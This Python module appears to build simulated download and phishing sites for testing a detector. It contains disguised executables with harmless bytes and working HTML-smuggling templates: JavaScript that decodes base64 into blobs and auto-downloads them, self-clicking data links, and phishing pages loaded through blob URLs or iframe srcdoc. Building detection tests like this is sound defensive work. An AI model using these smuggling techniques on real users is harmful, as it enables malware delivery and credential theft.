"""Files that a link gives instead of a page, and pages that build files: harmless bytes in all of them."""
import base64
import io
import zipfile

from ..description import Reply
from . import phish
from .honest import page

# The beginning of a Windows program that says it cannot run, and nothing more.
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".ljust(64, b"\0") + b"This program cannot be run.\r\n".ljust(448, b"\0")
ISO = bytes(32768) + b"\x01CD001\x01\x00" + bytes(2040)


def _zip(**files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name.replace("__", "."), (2026, 3, 4, 10, 0, 0)), data)
    return out.getvalue()


def _attached(data, name, media_type):
    return Reply(data, media_type=media_type, headers=(("Content-Disposition", f'attachment; filename="{name}"'),))


def _smuggled(data, name, media_type):
    coded = base64.b64encode(data).decode()
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>Your document</title></head><body style="font:16px sans-serif"><p>Your document is being prepared. Open it from the downloads of your browser.</p>
<script>(function(){{var b=atob('{coded}'),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var o=new Blob([u],{{type:'{media_type}'}});
var a=document.createElement('a');a.href=URL.createObjectURL(o);a.download='{name}';document.body.appendChild(a);a.click()}})()</script></body></html>"""


def _attachments(world):
    attached = (
        ("download-program", "Invoice_2291.exe", PROGRAM, "application/x-msdownload", "A Windows program that looks like an invoice.", "suspicious",
         ("malware",)),
        ("download-double", "scan_0042.pdf.exe", PROGRAM, "application/octet-stream", "A program with two endings.", "suspicious", ("malware",)),
        ("download-script", "statement.js", b"WScript.Echo('nothing');\r\n", "application/javascript", "A script for Windows.", "suspicious", ("malware",)),
        ("download-iso", "order-details.iso", ISO, "application/octet-stream", "A disk image.", "suspicious", ("malware",)),
        ("download-zip-program", "documents.zip", _zip(Invoice__exe=PROGRAM), "application/zip", "An archive with a program in it.", "suspicious",
         ("malware",)),
        ("download-zip", "photos-of-the-fair.zip", _zip(readme__txt=b"Two photographs follow next week.\n"), "application/zip", "An honest archive.",
         "clean", ("unknown", "suspicious")),
        ("download-html", "remittance.html", phish.microsoft("https://collect-forms.net/in").encode(), "text/html",
         "A sign-in page as a file to open at home.", "phishing", ("suspicious",)),
        ("download-shortcut", "Open.url", b"[InternetShortcut]\r\nURL=https://northgate-voicemail.com/secure/login.html\r\n",
         "application/internet-shortcut", "A shortcut to a sign-in page.", "suspicious", ("phishing", "malware")),
    )
    for name, file, data, media_type, does, disposition, accept in attached:
        world.site(name, "downloads", f"https://dl.paperlane-files.com/{name}/{file}", does, disposition, accept=accept, shows="" if b"\0" in data else data[:20].decode("latin-1"),
                   evidence=() if disposition == "clean" else ("page.download",))
        world.at(f"dl.paperlane-files.com/{name}/{file}", lambda visit, data=data, file=file, media_type=media_type: _attached(data, file, media_type))


def _smuggling(world):
    seen = {"browser": True, "evidence": ("page.smuggling",)}
    for name, data, file, media_type, does in (
            ("smuggle-zip", _zip(Invoice__exe=PROGRAM), "Invoice.zip", "application/zip", "A script builds an archive with a program and downloads it."),
            ("smuggle-iso", ISO, "contract.iso", "application/octet-stream", "A script builds a disk image and downloads it.")):
        world.site(name, "downloads", f"https://docs-courier-view.com/{name}", does, "malware", accept=("suspicious",), shows="being prepared", **seen)
        world.at(f"docs-courier-view.com/{name}", _smuggled(data, file, media_type))
    link = base64.b64encode(PROGRAM).decode()
    world.site("smuggle-data-link", "downloads", "https://docs-courier-view.com/data", "A link to data in the page, that the page clicks itself.",
               "malware", accept=("suspicious",), shows="octet-stream", **seen)
    world.at("docs-courier-view.com/data",
             f"<!doctype html><title>Update</title><p>Your update starts by itself.</p><a id=a download='update.exe' href='data:application/octet-stream;base64,{link}'>Start</a><script>a.click()</script>")
    hidden = base64.b64encode(phish.microsoft("https://collect-forms.net/in").encode()).decode()
    bad = {"browser": True, "brand": "Microsoft", "brand_in_text": True, "evidence": ("page.brand", "page.credentials")}
    world.site("smuggle-blob-page", "downloads", "https://docs-courier-view.com/blob", "A script builds a sign-in page as a blob and goes there.",
               "phishing", accept=("suspicious",), shows="createObjectURL", **bad)
    world.at("docs-courier-view.com/blob",
             f"<!doctype html><title>Loading</title><script>location=URL.createObjectURL(new Blob([atob('{hidden}')],{{type:'text/html'}}))</script>")
    world.site("smuggle-srcdoc", "downloads", "https://docs-courier-view.com/srcdoc", "A script puts a sign-in page into a frame without an address.",
               "phishing", accept=("suspicious",), shows="srcdoc", **bad)
    world.at("docs-courier-view.com/srcdoc",
             f"<!doctype html><title>Document</title><body style='margin:0'><script>var f=document.createElement('iframe');f.style.cssText='border:0;width:100%;height:99vh';f.srcdoc=atob('{hidden}');document.body.appendChild(f)</script>")
    # The honest twin: a page that lets its visitor save what is on it.
    world.site("honest-export", "downloads", "https://www.tally-of-birds.org/list",
               "A list that can be saved as a table, by a script and on a click.", "clean", shows="Save as table")
    world.at("www.tally-of-birds.org/list",
             page("Birds", "<h1>Birds of March</h1><ul><li>Wren 12<li>Robin 31<li>Heron 2</ul><button onclick=\"var a=document.createElement('a');a.href=URL.createObjectURL(new Blob(['wren,12\\nrobin,31'],{type:'text/csv'}));a.download='birds.csv';a.click()\">Save as table</button>", "Tally of Birds", "#254"))


def build(world):
    _attachments(world)
    _smuggling(world)
    world.at("collect-forms.net/in", "thank you")
